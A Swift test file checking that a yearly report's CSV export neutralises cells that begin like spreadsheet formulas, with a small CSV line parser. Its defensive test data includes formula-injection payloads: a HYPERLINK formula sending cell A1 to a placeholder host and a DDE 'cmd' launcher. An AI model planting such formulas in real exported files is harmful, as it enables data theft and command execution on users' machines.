import Foundation
import Pipeline
import Testing

/// The CSV report opens in spreadsheets: a cell that starts like a formula must stay text.
@Suite("report CSV")
struct ReportCSVTests {
    @Test func cellsThatLookLikeFormulasAreNeutralised() {
        let t = Date(timeIntervalSince1970: 1_780_000_000)
        let hostile = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                       "\tTAB", "\rCR"]
        let records = hostile.enumerated().map { i, text in
            ReviewRecord(caseNumber: "SW-\(i)", camera: text, rule: text, category: text, firstSeen: t, createdAt: t,
                         status: .rejected)
        }
        let coverage = [CameraCoverage(camera: "=1+1", samples: [], period: t..<t.addingTimeInterval(3600))]
        let csv = YearlyReport(year: 2026, records: records, coverage: coverage,
                               timeZone: TimeZone(identifier: "Asia/Shanghai")!).csv()
        var cells: [String] = []
        for line in csv.split(separator: "\r\n") { cells += parseCSVLine(String(line)) }
        for text in hostile + ["=1+1"] {
            #expect(cells.contains("'" + text), "\(text.debugDescription) not neutralised")
        }
        let dangerous = cells.filter { $0.first.map { "=+-@\t\r".contains($0) } ?? false }
        #expect(dangerous.isEmpty, "cells starting like a formula: \(dangerous)")
        // Plain text and numbers are untouched.
        #expect(csv.hasPrefix("section,key,flagged,filed,rejected,pending,"))
        #expect(cells.contains("2026"))
    }

    /// RFC 4180 fields of one line.
    private func parseCSVLine(_ line: String) -> [String] {
        var fields: [String] = [], field = "", quoted = false, chars = Array(line), i = 0
        while i < chars.count {
            let c = chars[i]
            if quoted {
                if c == "\"" {
                    if i + 1 < chars.count && chars[i + 1] == "\"" { field.append("\""); i += 1 } else { quoted = false }
                } else { field.append(c) }
            } else if c == "\"" { quoted = true }
            else if c == "," { fields.append(field); field = "" }
            else { field.append(c) }
            i += 1
        }
        return fields + [field]
    }
}
